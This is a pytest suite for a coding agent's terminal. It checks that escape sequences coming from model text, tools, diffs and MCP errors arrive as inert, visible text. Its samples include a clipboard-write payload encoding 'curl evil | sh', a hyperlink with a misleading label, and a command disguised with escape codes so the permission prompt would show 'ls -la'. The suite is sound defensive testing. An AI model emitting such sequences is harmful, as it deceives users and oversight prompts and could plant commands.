"""What reaches the terminal is what it says (issue 39): text from the model, tools, files and
MCP servers cannot drive the terminal, and a permission prompt cannot be made to lie.

Each test plays the attack through the real agent in a pseudo-terminal against the scripted
model, then reads both the bytes the terminal received (no escape sequence of the attacker's
may be among them) and the screen a VT emulator drew from them (the attacker's text is there,
shown as codes: `␛]52;…`).
"""

from __future__ import annotations

import io
import json
import re
import sys
from pathlib import Path

import pexpect
from fake_openai import FakeOpenAI, text, tool_calls
from helpers import MCP_SERVERS, run_agent
from pty_term import READY, Term, plain_repl

# What the attacker's text carries: a clipboard write, window titles, a hyperlink labelled with
# another address, the end of a bracketed paste, a screen clear, an 8-bit CSI and a bidi override.
CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07"
TITLES = "\x1b]0;owned-0\x07\x1b]2;owned-2\x1b\\"
LINK = "\x1b]8;;https://evil.example/x\x1b\\https://docs.python.org\x1b]8;;\x1b\\"
PASTE_END, CLEAR, CSI8, RLO = "\x1b[201~", "\x1b[2J", "\x9b2J", "\u202e"
HOSTILE = f"A{CLIPBOARD}B{TITLES}C{LINK}D{PASTE_END}E{CLEAR}F{CSI8}G{RLO}H"
NEVER = [b"\x1b]52", b"\x1b]0;owned", b"\x1b]2;owned", b"\x1b]8;", b"\x1b[201~", b"\x1b[2J"]
NEVER += ["\x9b".encode(), RLO.encode()]


def assert_inert(term: Term) -> None:
    """None of the attacker's sequences reached the terminal, and nothing changed its title."""
    leaked = [seq for seq in NEVER if seq in term.raw]
    assert not leaked, f"reached the terminal: {leaked}"
    assert "owned" not in term.screen.title


def test_a_command_cannot_hide_behind_escape_codes_in_the_prompt(
    term: Term, fake: FakeOpenAI, project: Path
) -> None:
    """Erase the line, back to column 1, draw a harmless command: the prompt used to show
    `command: ls -la` for a command that runs `touch pwned.txt`."""
    command = "touch pwned.txt \x1b[2K\x1b[1G\rcommand: ls -la"
    fake.script(tool_calls([("bash", {"command": command})]), text("ok then"))
    term.wait_for(READY, where="bottom")
    term.type("list the files")
    shown = term.wait_for("Allow?")
    assert "command: touch pwned.txt ␛[2K␛[1G␍command: ls -la" in shown
    warning = shown.index("warning: there are terminal escape sequences and control characters")
    assert warning < shown.index("command: touch pwned.txt")  # said first
    term.answer("n")
    term.wait_for("reason for the model")
    term.type("")
    term.wait_for("ok then")
    assert not (project / "pwned.txt").exists()
    assert b"\x1b[1G\r" not in term.raw
    term.send("\x04")
    assert term.wait_exit() == 0


def test_the_plain_prompt_shows_the_real_command_too(
    fake: FakeOpenAI, fake_env: dict[str, str], project: Path
) -> None:
    """The line REPL (stdout piped) asks on stderr: the same value, the same warning first."""
    fake.script(
        tool_calls([("bash", {"command": "touch pwned.txt \x1b[2K\rls -la"})]), text("ok then")
    )
    child = plain_repl(fake_env, project)
    try:
        child.expect("> ", timeout=30)
        child.sendline("list the files")
        child.expect("warning: there are terminal escape sequences", timeout=30)
        child.expect(re.escape("command: touch pwned.txt ␛[2K␍ls -la".encode()), timeout=10)
        child.expect("\\[N\\]o", timeout=10)
        child.sendline("n")
        child.expect("ok then", timeout=30)
        seen = child.before + child.after
        assert b"\x1b[2K" not in seen
        child.sendeof()
        child.expect(pexpect.EOF, timeout=30)
    finally:
        child.close(force=True)
    assert not (project / "pwned.txt").exists()


def test_model_text_tool_errors_and_diffs_cannot_drive_the_terminal(
    fake: FakeOpenAI, fake_env: dict[str, str], project: Path
) -> None:
    """The model's answer and reasoning, a file line in an edit's diff and a tool's error quoting
    a path: no clipboard write, title, hyperlink, paste end or clear screen gets through, and a
    Markdown link shows where it goes."""
    fake.script(
        tool_calls(
            [
                ("write_file", {"path": "new.txt", "content": f"line {HOSTILE}\n"}),
                ("read_file", {"path": f"gone{CLIPBOARD}.txt"}),
            ],
            reasoning=f"thinking {TITLES} about it\n",
        ),
        text(f"Answer {HOSTILE}\n\nsee [https://docs.python.org](https://evil.example/steal)\n"),
    )
    term = Term(fake_env, project, "--permission-mode", "acceptEdits")
    try:
        term.wait_for(READY, where="bottom")
        term.type("go")
        term.wait_for("https://evil.example/steal")
        term.wait_for(READY, where="bottom")
        shown = term.text()
        assert "see https://docs.python.org (https://evil.example/steal)" in shown
        flat = shown.replace("\n", "")  # long lines wrap (at a space, which goes)
        assert "+lineA␛]52;c;Y3VybCBldmlsIHwgc2g=␇B␛]0;owned-0␇" in flat  # the diff
        assert "gone␛]52;c;Y3VybCBldmlsIHwgc2g=␇.txt" in flat  # the tool's error names the path
        assert "AnswerA␛]52;c;" in flat and "F\\x9b2JG\\u202eH" in flat
        assert "thinking ␛]0;owned-0␇␛]2;owned-2␛\\ about it" in flat
        term.type("!printf 'out \\033]52;c;eA==\\007 \\033[2J done'")  # a command's output
        term.wait_for("out ␛]52;c;eA==␇ ␛[2J done")
        assert_inert(term)
        term.send("\x04")
        assert term.wait_exit() == 0
    finally:
        term.close()
    assert (project / "new.txt").read_text() == f"line {HOSTILE}\n"  # the file: as written


def test_a_one_shot_run_in_a_terminal_and_an_mcp_error(
    fake: FakeOpenAI, fake_env: dict[str, str], project: Path
) -> None:
    """`agent "question"` with stdout and stderr a terminal: the answer and an MCP server's
    error reach it as visible text only."""
    home = Path(fake_env["HOME"]) / ".agent"
    home.mkdir(parents=True, exist_ok=True)
    server = {"command": sys.executable, "args": [str(MCP_SERVERS / "demo.py")], "timeout": 60}
    (home / "settings.json").write_text(json.dumps({"mcpServers": {"demo": server}}))
    fake.script(
        tool_calls([("mcp__demo__fail", {"message": f"server says {HOSTILE}"})]),
        text(f"The answer {HOSTILE}", pieces=5),
    )
    term = Term(fake_env, project, "--allowed-tools", "mcp__demo", "what now?")
    try:
        term.wait_for("The answer A␛]52;c;")
        assert term.wait_exit() == 0
        flat = term.text().replace("\n", "")  # long lines wrap
        assert "server says A␛]52;c;Y3VybCBldmlsIHwgc2g=␇B␛]0;owned-0␇" in flat
        assert "F\\x9b2JG\\u202eH" in flat
        assert_inert(term)
    finally:
        term.close()


def test_a_pipe_gets_the_answer_as_written(
    fake: FakeOpenAI, fake_env: dict[str, str], project: Path
) -> None:
    """stdout to a pipe is data: the model's text byte for byte (the reader decides); stderr is
    for people, so the activity there is made visible even in a file."""
    fake.script(
        tool_calls([("read_file", {"path": f"gone{CLIPBOARD}.txt"})]),
        text(f"The answer {HOSTILE}"),
    )
    done = run_agent(fake_env, project, "what now?")
    assert done.returncode == 0, done.stderr
    assert done.stdout == f"The answer {HOSTILE}\n"
    assert "gone␛]52;c;" in done.stderr and "\x1b" not in done.stderr


# -- in-process: the rich console and Markdown -----------------------------------------------
def test_the_console_writes_no_control_of_the_text_whoever_prints_it() -> None:
    """A slash command printing a server's text, a link style someone set: the console itself
    makes the text visible and drops a hyperlink whose text is not its target."""
    from rich.style import Style
    from rich.text import Text

    from agent.ui.terminal import safe_console

    out = io.StringIO()
    console = safe_console(file=out, force_terminal=True, width=200, highlight=False)
    console.print(f"said {HOSTILE}", markup=False)
    console.print(Text("https://docs.python.org", style=Style(link="https://evil.example")))
    console.print(Text("https://ok.example", style=Style(link="https://ok.example")))
    written = out.getvalue().encode()
    assert [seq for seq in NEVER if seq in written] == [b"\x1b]8;"]  # only the honest link
    assert b"\x1b]8;id=" not in written.split(b"https://docs.python.org")[0]
    assert "said A␛]52;c;Y3VybCBldmlsIHwgc2g=B" in out.getvalue()  # (rich drops a BEL itself)


def test_markdown_links_show_where_they_go() -> None:
    from rich.console import Console

    from agent.ui.terminal import markdown

    out = io.StringIO()
    md = "[https://docs.python.org](https://evil.example/x) · <https://ok.example> · [docs](/d)"
    Console(file=out, force_terminal=True, width=200).print(markdown(md, "monokai"))
    plain = re.sub(r"\x1b\[[0-9;]*m", "", out.getvalue())  # rich's own colours
    assert plain.strip() == (
        "https://docs.python.org (https://evil.example/x) · https://ok.example · docs (/d)"
    )
    assert "\x1b]8;" not in out.getvalue()
